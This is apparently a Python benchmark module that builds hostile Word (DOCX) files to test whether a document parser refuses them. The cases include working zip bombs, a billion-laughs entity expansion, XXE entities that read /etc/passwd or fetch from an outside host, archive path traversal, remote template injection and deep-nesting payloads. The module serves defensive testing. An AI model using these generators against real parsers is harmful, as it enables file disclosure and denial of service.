"""Hostile Word documents: archives, XML, and what hides in either."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

from benchmarks.hostile_files.case import Case
from copilot.documents.media import MediaType

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_TYPES = (
    f'<?xml version="1.0"?><Types xmlns="{_PACKAGE}/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/word/document.xml" ContentType="{_MAIN}"/></Types>'
)
_RELS = (
    f'<?xml version="1.0"?><Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="r1" '
    f'Type="{_R}/officeDocument" Target="word/document.xml"/></Relationships>'
)
_TEXT = "<w:p><w:r><w:t>Quill Mender</w:t></w:r></w:p><w:p><w:r><w:t>Experience</w:t></w:r></w:p>"


def _document(body: str, declared: str = "") -> str:
    return (
        f'<?xml version="1.0"?>{declared}<w:document xmlns:w="{_W}" xmlns:r="{_R}"><w:body>{body}'
        "</w:body></w:document>"
    )


def _archive(parts: dict[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _docx(
    changes: dict[str, bytes | str] | None = None, method: int = zipfile.ZIP_DEFLATED
) -> bytes:
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": _RELS,
        "word/document.xml": _document(_TEXT),
    }
    return _archive(parts | (changes or {}), method)


def _with_body(body: str, declared: str = "") -> bytes:
    return _docx({"word/document.xml": _document(body, declared)})


def _big_part(name: str, megabytes: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _TYPES)
        archive.writestr("_rels/.rels", _RELS)
        with archive.open(name, "w") as part:
            for _ in range(megabytes):
                part.write(b" " * 1024 * 1024)
    return buffer.getvalue()


def _lying() -> bytes:
    """Declares ten bytes for what unpacks to thirty million."""
    content = _big_part("word/document.xml", 30)
    return content.replace(struct.pack("<I", 30 * 1024 * 1024), struct.pack("<I", 10))


def _nested(levels: int) -> bytes:
    inner = _archive({"a.txt": b"\0" * 10_000_000})
    for level in range(levels):
        inner = _archive({f"{level}-{n}.zip": inner for n in range(4)})
    return _docx({"word/embeddings/oleObject1.bin": inner})


def _only_zips(levels: int) -> bytes:
    inner = _archive({"word/document.xml": b"\0" * 10_000_000})
    for level in range(levels):
        inner = _archive({f"word/{level}-{n}.zip": inner for n in range(10)})
    return inner


def _overlapping(copies: int) -> bytes:
    """Many directory entries that point at one compressed part, as the best known bombs do."""
    content = bytearray(_archive({"word/document.xml": b"\0" * 3_000_000}))
    end = content.rindex(b"PK\x05\x06")
    start = struct.unpack("<I", content[end + 16 : end + 20])[0]
    entry = bytes(content[start:end])
    tail = bytearray(content[end:])
    tail[8:12] = struct.pack("<HH", copies, copies)
    tail[12:16] = struct.pack("<I", len(entry) * copies)
    return bytes(content[:start]) + entry * copies + bytes(tail)


def _laughs() -> str:
    lines = ['<!ENTITY a0 "ha">']
    lines += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)]
    return f"<!DOCTYPE d [{''.join(lines)}]>"


def _wrong_checksum() -> bytes:
    content = bytearray(_docx(method=zipfile.ZIP_STORED))
    at = content.index(b"Quill")
    content[at : at + 5] = b"Quell"
    return bytes(content)


def _flagged(bit: int) -> bytes:
    content = bytearray(_docx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + offset] |= bit
            at = content.find(mark, at + 4)
    return bytes(content)


def _method(number: int) -> bytes:
    content = bytearray(_docx())
    for mark, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        at = content.find(mark)
        while at >= 0:
            content[at + offset : at + offset + 2] = struct.pack("<H", number)
            at = content.find(mark, at + 4)
    return bytes(content)


def _macros() -> bytes:
    types = _TYPES.replace(_MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml")
    return _docx({"[Content_Types].xml": types, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 100})


def _relation(target: str, kind: str, mode: str = "") -> bytes:
    relation = (
        f'<?xml version="1.0"?><Relationships xmlns="{_PACKAGE}/relationships">'
        f'<Relationship Id="r9" Type="{_R}/{kind}" Target="{target}" {mode}/></Relationships>'
    )
    return _docx({"word/_rels/document.xml.rels": relation})


def _styles() -> bytes:
    types = _TYPES.replace(
        "</Types>",
        '<Override PartName="/word/styles.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.wordprocessingml.styles+xml"/></Types>',
    )
    style = (
        '<w:style w:type="paragraph" w:styleId="{0}"><w:name w:val="{0}"/>'
        '<w:basedOn w:val="{1}"/></w:style>'
    )
    styles = f'<w:styles xmlns:w="{_W}">{style.format("A", "B")}{style.format("B", "A")}</w:styles>'
    relation = (
        f'<?xml version="1.0"?><Relationships xmlns="{_PACKAGE}/relationships"><Relationship '
        f'Id="r2" Type="{_R}/styles" Target="styles.xml"/></Relationships>'
    )
    body = '<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>Quill Mender</w:t></w:r></w:p>'
    return _docx(
        {
            "[Content_Types].xml": types,
            "word/styles.xml": styles,
            "word/_rels/document.xml.rels": relation,
            "word/document.xml": _document(body),
        }
    )


def _word_case(
    name: str, make: Callable[[], bytes], *, refused: bool = True, slow: bool = False
) -> Case:
    return Case(f"DOCX: {name}", MediaType.DOCX, make, refused, slow)


_ENTITY = "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>"
_BOX = "<w:p><w:r><w:pict><w:txbxContent>"

CASES = (
    _word_case("two letters of an archive", lambda: b"PK\x03\x04word/"),
    _word_case(
        "an archive's head before noise", lambda: b"PK\x03\x04word/" + bytes(range(256)) * 99
    ),
    _word_case("cut off", lambda: _docx()[:-60]),
    _word_case("cut in half", lambda: _docx()[: len(_docx()) // 2]),
    _word_case(
        "over the size limit", lambda: _docx({"word/media/a.bin": b"\1"}) + b"\0" * 11_000_000
    ),
    _word_case("a wrong checksum", _wrong_checksum),
    _word_case(
        "an old Office container", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4000
    ),
    _word_case("marked as encrypted", lambda: _flagged(1)),
    _word_case("an encrypted package", lambda: _docx({"EncryptedPackage": b"\0" * 99})),
    _word_case("an unknown compression", lambda: _method(99)),
    _word_case(
        "a spreadsheet",
        lambda: _archive({"[Content_Types].xml": _TYPES, "xl/workbook.xml": "<x/>"}),
    ),
    _word_case(
        "no document inside",
        lambda: _archive({"[Content_Types].xml": _TYPES, "word/a.xml": "<a/>"}),
    ),
    _word_case("broken XML", lambda: _docx({"word/document.xml": "<w:document><w:body>"})),
    _word_case("zero bytes for XML", lambda: _docx({"word/document.xml": b"\0" * 9999})),
    _word_case("a 120 MB document", lambda: _big_part("word/document.xml", 120), slow=True),
    _word_case("a 1 GB picture", lambda: _big_part("word/media/a.png", 1000), slow=True),
    _word_case("a part that lies about its size", _lying),
    _word_case("3,000 parts", lambda: _docx({f"word/{n}.xml": "" for n in range(3000)})),
    _word_case("archives in archives", lambda: _nested(6), slow=True),
    _word_case("nothing but archives", lambda: _only_zips(4)),
    _word_case("one part listed 1,500 times", lambda: _overlapping(1500)),
    _word_case("a billion laughs", lambda: _with_body(_ENTITY.replace("&x;", "&a11;"), _laughs())),
    _word_case(
        "an entity from a file",
        lambda: _with_body(_ENTITY, '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    ),
    _word_case(
        "an entity from the network",
        lambda: _with_body(_ENTITY, '<!DOCTYPE d [<!ENTITY x SYSTEM "http://192.0.2.1/x">]>'),
    ),
    _word_case(
        "a parameter entity",
        lambda: _with_body(_TEXT, '<!DOCTYPE d [<!ENTITY % x SYSTEM "http://192.0.2.1/x"> %x;]>'),
    ),
    _word_case(
        "an outside document type",
        lambda: _with_body(_TEXT, '<!DOCTYPE d SYSTEM "http://192.0.2.1/x.dtd">'),
    ),
    _word_case(
        "an entity in UTF-16",
        lambda: _docx(
            {
                "word/document.xml": _document(
                    _ENTITY, '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
                ).encode("utf-16")
            }
        ),
    ),
    _word_case(
        "an entity in the relations",
        lambda: _docx({"_rels/.rels": _RELS.replace("?>", '?><!DOCTYPE d [<!ENTITY x "y">]>', 1)}),
    ),
    _word_case(
        "an entity behind a long comment",
        lambda: _with_body(_ENTITY, f"<!--{'x' * 300_000}--><!DOCTYPE d [<!ENTITY x 'y'>]>"),
    ),
    _word_case("macros", _macros),
    _word_case(
        "an embedded program", lambda: _docx({"word/embeddings/oleObject1.bin": b"MZ" * 500})
    ),
    _word_case("an ActiveX control", lambda: _docx({"word/activeX/activeX1.bin": b"\0" * 500})),
    _word_case(
        "a name that climbs out of the archive",
        lambda: _docx({"../../../../tmp/owned.xml": "<x/>"}),
        refused=False,
    ),
    _word_case(
        "a template from the network",
        lambda: _relation("http://192.0.2.1/a.dotm", "attachedTemplate", 'TargetMode="External"'),
        refused=False,
    ),
    _word_case(
        "a part that relates to itself", lambda: _relation("document.xml", "header"), refused=False
    ),
    _word_case("styles in a circle", _styles, refused=False),
    _word_case(
        "100,000 elements deep",
        lambda: _with_body(
            "<w:sdt><w:sdtContent>" * 50_000 + _TEXT + "</w:sdtContent></w:sdt>" * 50_000
        ),
    ),
    _word_case(
        "tables in tables",
        lambda: _with_body(
            "<w:tbl><w:tr><w:tc>" * 3_000 + _TEXT + "</w:tc></w:tr></w:tbl>" * 3_000
        ),
    ),
    _word_case(
        "text boxes in text boxes",
        lambda: _with_body(_BOX * 800 + _TEXT + "</w:txbxContent></w:pict></w:r></w:p>" * 800),
    ),
    _word_case(
        "a million fields",
        lambda: _with_body("<w:p>" + "<w:fldSimple/>" * 1_000_000 + "</w:p>"),
        slow=True,
    ),
    _word_case(
        "a million runs",
        lambda: _with_body("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 700_000 + "</w:p>"),
        slow=True,
    ),
    _word_case(
        "a million attributes",
        lambda: _with_body("<w:p " + " ".join(f'a{n}="1"' for n in range(1_000_000)) + "/>"),
        slow=True,
    ),
    _word_case(
        "endless text",
        lambda: _with_body("<w:p><w:r><w:t>" + "quill " * 200_000 + "</w:t></w:r></w:p>"),
    ),
)
